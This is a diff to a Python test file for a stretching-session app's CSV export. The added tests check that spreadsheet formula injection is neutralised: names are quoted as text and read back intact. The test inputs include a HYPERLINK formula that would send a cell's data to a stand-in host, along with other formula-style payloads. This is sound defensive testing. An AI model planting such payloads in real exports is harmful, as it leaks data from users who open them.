@@ -3,16 +3,30 @@
 from __future__ import annotations
 
 import csv
+import re
 from dataclasses import replace
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from backspasm_gui.core.errors import ContentError
 from backspasm_gui.core.history import HoldRecord, SessionRecord
-from backspasm_gui.storage.csv_export import COLUMNS, ExportError, read_csv, write_csv
+from backspasm_gui.storage.csv_export import (
+    COLUMNS,
+    FORMULA_STARTS,
+    ExportError,
+    as_text,
+    from_text,
+    read_csv,
+    row,
+    write_csv,
+)
 from tests.simulated import month
+
+NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")  # what a spreadsheet takes for a number
 
 ZONE = timezone(timedelta(hours=1))
 ODD_NAME = "Child's Pose, “easy”"
@@ -180,3 +194,50 @@ def test_a_damaged_row_is_named_as_a_spreadsheet_numbers_it(
     path.write_text(text, encoding="utf-8-sig")
     with pytest.raises(ContentError, match=r"^sessions\.csv, row 3: outcome"):
         read_csv(path)
+
+
+# --- no cell runs as a formula --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"],
+)
+def test_a_name_that_would_be_a_formula_is_written_as_text_and_reads_back(
+    tmp_path: Path, odd: SessionRecord, name: str
+) -> None:
+    session = replace(
+        odd, routine=name, holds=(HoldRecord("knee-to-chest", name, "left", 30, False),)
+    )
+    path = tmp_path / "sessions.csv"
+    write_csv([session], path)
+    (row,) = rows(path)
+    assert (row["skipped"], row["routine"]) == ("'" + name, "'" + name)
+    assert read_csv(path) == [session]
+
+
+def test_a_name_beginning_with_the_quote_itself_reads_back_as_it_was(
+    tmp_path: Path, odd: SessionRecord
+) -> None:
+    session = replace(odd, routine="'=quoted'")
+    path = tmp_path / "sessions.csv"
+    write_csv([session], path)
+    assert rows(path)[0]["routine"] == "''=quoted'"
+    assert read_csv(path) == [session]
+
+
+@pytest.mark.parametrize(("text", "written"), [("-5", "-5"), ("+2.5", "+2.5"), ("-1_0", "'-1_0")])
+def test_numbers_stay_numbers(text: str, written: str) -> None:
+    assert as_text(text) == written
+
+
+@settings(max_examples=300, deadline=2000)
+@given(st.text(max_size=30))
+def test_no_routine_name_becomes_a_formula_and_every_one_reads_back(name: str) -> None:
+    started = datetime(2026, 11, 30, 9, 5, tzinfo=ZONE)
+    hold = HoldRecord("a", name, None, 30, False)
+    session = SessionRecord(started, started, (hold,), routine=name)
+    cells = row(session)
+    for cell in (cells["routine"], cells["skipped"]):
+        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell)
+    assert from_text(cells["routine"]) == name
